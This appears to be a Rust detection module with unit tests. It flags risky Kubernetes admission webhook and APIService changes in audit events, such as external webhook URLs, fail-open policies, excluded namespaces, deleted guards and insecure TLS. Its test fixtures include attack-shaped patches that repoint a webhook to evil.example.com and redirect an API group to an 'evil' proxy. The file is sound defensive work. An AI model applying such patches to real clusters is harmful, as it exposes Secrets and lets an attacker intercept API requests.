//! Admission and API aggregation: the places where the API server hands a
//! request, or a whole API group, to something else.

use serde_json::Value;

use super::path::Path;
use super::{Ctx, Op, Sink};
use crate::model::Severity::{Critical, High, Medium};

pub const WEBHOOKS: &[&str] = &[
    "validatingwebhookconfigurations",
    "mutatingwebhookconfigurations",
];

pub const POLICIES: &[&str] = &[
    "validatingadmissionpolicies",
    "validatingadmissionpolicybindings",
    "mutatingadmissionpolicies",
    "mutatingadmissionpolicybindings",
];

/// The label every namespace carries with its own name (since 1.21).
const NAME_LABEL: &str = "kubernetes.io/metadata.name";

pub fn webhooks(ctx: &Ctx<'_>, sink: &mut Sink) {
    if ctx.op == Op::Delete {
        // A guard removed: what it rejected or rewrote now goes through.
        deleted("admission_webhook_deleted", ctx, sink);
        return;
    }
    let Some(hooks) = ctx.at("/webhooks").and_then(Value::as_array) else {
        return;
    };
    for (i, hook) in hooks.iter().enumerate() {
        let at = Path::root().key("webhooks").item(hooks, i);
        // Every admitted object, Secrets included, sent outside the
        // cluster (or to a node port), where no Service or RBAC governs it.
        if let Some(url) = hook.pointer("/clientConfig/url").filter(|v| !v.is_null()) {
            let path = at.key("clientConfig").key("url");
            sink.push("webhook_external_url", &path, url.clone(), Critical);
        }
        fail_open(hook, &at, sink);
        for selector in ["namespaceSelector", "objectSelector"] {
            if let Some(sel) = hook.get(selector) {
                selector_exclusions(sel, &at.key(selector), sink);
            }
        }
    }
}

/// `failurePolicy: Ignore`: stop the webhook (or make it time out) and
/// everything it guards is admitted.
fn fail_open(hook: &Value, at: &Path, sink: &mut Sink) {
    if hook.get("failurePolicy").and_then(Value::as_str) == Some("Ignore") {
        let path = at.key("failurePolicy");
        sink.push("admission_fail_open", &path, Value::from("Ignore"), High);
    }
}

/// Selector terms that take kube-system out of a webhook's reach, or
/// narrow it to a few named namespaces (everything else is out).
fn selector_exclusions(sel: &Value, at: &Path, sink: &mut Sink) {
    if let Some(name) = sel.pointer("/matchLabels").and_then(|m| m.get(NAME_LABEL)) {
        let path = at.key("matchLabels").key(NAME_LABEL);
        sink.push("webhook_scope_excluded", &path, name.clone(), Medium);
    }
    let Some(terms) = sel.get("matchExpressions").and_then(Value::as_array) else {
        return;
    };
    for (i, term) in terms.iter().enumerate() {
        let key = term.get("key").and_then(Value::as_str).unwrap_or("");
        let op = term.get("operator").and_then(Value::as_str).unwrap_or("");
        let values = term.get("values").and_then(Value::as_array);
        let names_kube_system = values
            .into_iter()
            .flatten()
            .any(|v| v.as_str() == Some("kube-system"));
        let excludes = key == NAME_LABEL && ((op == "NotIn" && names_kube_system) || op == "In");
        if excludes {
            let path = at.key("matchExpressions").item(terms, i);
            sink.push("webhook_scope_excluded", &path, term.clone(), Medium);
        }
    }
}

pub fn policies(ctx: &Ctx<'_>, sink: &mut Sink) {
    if ctx.op == Op::Delete {
        deleted("admission_policy_deleted", ctx, sink);
        return;
    }
    // A policy whose CEL errors admit the request.
    if let Some(spec) = ctx.at("/spec")
        && ctx.ev.resource().ends_with("policies")
    {
        fail_open(spec, &Path::of("spec"), sink);
    }
}

fn deleted(rule: &'static str, ctx: &Ctx<'_>, sink: &mut Sink) {
    let name = ctx.name();
    sink.push_always(rule, &Path::of("metadata.name"), Value::from(name), High);
}

/// An APIService hands a whole API group to a Service: repointing it (or
/// skipping TLS verification, so anyone on the path can answer) lets the
/// new backend answer every request for that group, with the requester's
/// identity. A new CA bundle is the quieter way to the same end.
pub fn apiservices(ctx: &Ctx<'_>, sink: &mut Sink) {
    let checks = [
        ("insecureSkipTLSVerify", "apiservice_insecure_tls", Critical),
        ("service", "apiservice_service", Critical),
        ("caBundle", "apiservice_ca_bundle", High),
    ];
    for (field, rule, severity) in checks {
        let Some(value) = ctx.at(&format!("/spec/{field}")) else {
            continue;
        };
        if field == "insecureSkipTLSVerify" && value != &Value::Bool(true) {
            continue;
        }
        sink.push(rule, &Path::of("spec").key(field), value.clone(), severity);
    }
}

#[cfg(test)]
mod tests {
    use super::super::test_support::Ev;
    use super::*;
    use crate::model::Severity;

    type Got = Vec<(&'static str, String, Severity)>;

    fn webhook_config(verb: &'static str, hooks: &str) -> Got {
        let body = format!(
            r#"{{"kind":"ValidatingWebhookConfiguration","apiVersion":"admissionregistration.k8s.io/v1","metadata":{{"name":"policy"}},"webhooks":{hooks}}}"#
        );
        Ev {
            verb,
            group: "admissionregistration.k8s.io",
            resource: "validatingwebhookconfigurations",
            name: "policy",
            request: Some(&body),
            ..Ev::default()
        }
        .risks()
    }

    #[test]
    fn external_url_and_fail_open() {
        let got = webhook_config(
            "create",
            r#"[{"name":"x.example.com","clientConfig":{"url":"https://203.0.113.9:8443/validate"},"failurePolicy":"Ignore","sideEffects":"None","admissionReviewVersions":["v1"]}]"#,
        );
        assert_eq!(
            got,
            [
                (
                    "webhook_external_url",
                    "webhooks[name=x.example.com].clientConfig.url".to_owned(),
                    Critical
                ),
                (
                    "admission_fail_open",
                    "webhooks[name=x.example.com].failurePolicy".to_owned(),
                    High
                ),
            ]
        );
        // The usual shape: an in-cluster Service, failing closed.
        let safe = webhook_config(
            "update",
            r#"[{"name":"x.example.com","clientConfig":{"service":{"namespace":"gatekeeper-system","name":"gatekeeper-webhook-service","path":"/v1/admit"},"caBundle":"LS0t"},"failurePolicy":"Fail","namespaceSelector":{"matchExpressions":[{"key":"admission.gatekeeper.sh/ignore","operator":"DoesNotExist"}]}}]"#,
        );
        assert!(safe.is_empty(), "{safe:?}");
    }

    /// cert-manager's cainjector (or a thief with its token) repointing a
    /// webhook with a JSON patch, logged at `Request` level or with the
    /// object after it: the URL is read from the patch or the object.
    #[test]
    fn a_json_patch_repointing_a_webhook_is_read_with_or_without_the_object() {
        let patch = r#"[{"op":"replace","path":"/webhooks/0/clientConfig/url","value":"https://evil.example.com/"},{"op":"replace","path":"/webhooks/0/clientConfig/caBundle","value":"Q0EtMg=="}]"#;
        let after = r#"{"kind":"MutatingWebhookConfiguration","metadata":{"name":"cert-manager-webhook"},"webhooks":[{"name":"webhook.cert-manager.io","clientConfig":{"url":"https://evil.example.com/","caBundle":"Q0EtMg=="}}]}"#;
        let ev = |response| Ev {
            verb: "patch",
            group: "admissionregistration.k8s.io",
            resource: "mutatingwebhookconfigurations",
            name: "cert-manager-webhook",
            user: "system:serviceaccount:cert-manager:cert-manager-cainjector",
            request: Some(patch),
            response,
            ..Ev::default()
        };
        assert_eq!(
            ev(None).risks(),
            [(
                "webhook_external_url",
                "webhooks[0].clientConfig.url".to_owned(),
                Critical
            )]
        );
        assert_eq!(
            ev(Some(after)).risks(),
            [(
                "webhook_external_url",
                "webhooks[name=webhook.cert-manager.io].clientConfig.url".to_owned(),
                Critical
            )]
        );
        // The CA alone, as the injector really writes it: no risk.
        let ca_only =
            r#"[{"op":"replace","path":"/webhooks/0/clientConfig/caBundle","value":"Q0EtMw=="}]"#;
        let quiet = Ev {
            request: Some(ca_only),
            ..ev(None)
        };
        assert!(quiet.risks().is_empty());
    }

    #[test]
    fn selectors_that_exclude_kube_system_or_all_but_a_few() {
        let got = webhook_config(
            "create",
            r#"[{"name":"a.example.com","clientConfig":{"service":{"namespace":"s","name":"s"}},"namespaceSelector":{"matchExpressions":[{"key":"kubernetes.io/metadata.name","operator":"NotIn","values":["kube-system","kube-public"]}]}},{"name":"b.example.com","clientConfig":{"service":{"namespace":"s","name":"s"}},"objectSelector":{"matchLabels":{"kubernetes.io/metadata.name":"sandbox"}}}]"#,
        );
        assert_eq!(
            got,
            [
                ("webhook_scope_excluded", "webhooks[name=a.example.com].namespaceSelector.matchExpressions[0]".to_owned(), Medium),
                ("webhook_scope_excluded", r#"webhooks[name=b.example.com].objectSelector.matchLabels["kubernetes.io/metadata.name"]"#.to_owned(), Medium),
            ]
        );
        let other_ns = webhook_config(
            "create",
            r#"[{"name":"a.example.com","clientConfig":{"service":{"namespace":"s","name":"s"}},"namespaceSelector":{"matchExpressions":[{"key":"kubernetes.io/metadata.name","operator":"NotIn","values":["sandbox"]}]}}]"#,
        );
        assert!(other_ns.is_empty());
    }

    fn delete(resource: &'static str) -> Got {
        Ev {
            verb: "delete",
            group: "admissionregistration.k8s.io",
            resource,
            name: "guard",
            request: Some(
                r#"{"kind":"DeleteOptions","apiVersion":"v1","propagationPolicy":"Background"}"#,
            ),
            ..Ev::default()
        }
        .risks()
    }

    #[test]
    fn deleting_a_guard() {
        let hook = [(
            "admission_webhook_deleted",
            "metadata.name".to_owned(),
            High,
        )];
        assert_eq!(delete("validatingwebhookconfigurations"), hook);
        assert_eq!(delete("mutatingwebhookconfigurations"), hook);
        for policy in [
            "validatingadmissionpolicies",
            "validatingadmissionpolicybindings",
        ] {
            assert_eq!(
                delete(policy),
                [("admission_policy_deleted", "metadata.name".to_owned(), High)]
            );
        }
        // Creating a binding is no risk; a policy failing open is.
        let binding = Ev {
            group: "admissionregistration.k8s.io",
            resource: "validatingadmissionpolicybindings",
            request: Some(r#"{"spec":{"policyName":"p","validationActions":["Deny"]}}"#),
            ..Ev::default()
        };
        assert!(binding.risks().is_empty());
        let policy = Ev {
            group: "admissionregistration.k8s.io",
            resource: "validatingadmissionpolicies",
            request: Some(
                r#"{"spec":{"failurePolicy":"Ignore","validations":[{"expression":"true"}]}}"#,
            ),
            ..Ev::default()
        };
        assert_eq!(policy.rules(), ["admission_fail_open"]);
    }

    fn apiservice(
        verb: &'static str,
        request: &'static str,
        response: Option<&'static str>,
    ) -> Got {
        Ev {
            verb,
            group: "apiregistration.k8s.io",
            resource: "apiservices",
            name: "v1beta1.metrics.k8s.io",
            request: Some(request),
            response,
            ..Ev::default()
        }
        .risks()
    }

    #[test]
    fn apiservice_repoint_and_tls() {
        let after = r#"{"kind":"APIService","spec":{"group":"metrics.k8s.io","version":"v1beta1","service":{"namespace":"evil","name":"proxy","port":443},"insecureSkipTLSVerify":true,"groupPriorityMinimum":100,"versionPriority":100}}"#;
        let got = apiservice(
            "patch",
            r#"{"spec":{"service":{"namespace":"evil","name":"proxy"},"insecureSkipTLSVerify":true,"caBundle":null}}"#,
            Some(after),
        );
        assert_eq!(
            got,
            [
                (
                    "apiservice_insecure_tls",
                    "spec.insecureSkipTLSVerify".to_owned(),
                    Critical
                ),
                ("apiservice_service", "spec.service".to_owned(), Critical),
            ]
        );
        // A patch of its labels, or an update that verifies TLS.
        assert!(
            apiservice("patch", r#"{"metadata":{"labels":{"a":"b"}}}"#, Some(after)).is_empty()
        );
        let verified = r#"{"spec":{"group":"metrics.k8s.io","insecureSkipTLSVerify":false,"caBundle":"LS0tLS1CRUdJTi"}}"#;
        assert_eq!(
            apiservice("update", verified, None),
            [("apiservice_ca_bundle", "spec.caBundle".to_owned(), High)]
        );
        // A local APIService (no service) is served by the API server itself.
        assert!(
            apiservice(
                "create",
                r#"{"spec":{"group":"apps","version":"v1"}}"#,
                None
            )
            .is_empty()
        );
    }
}
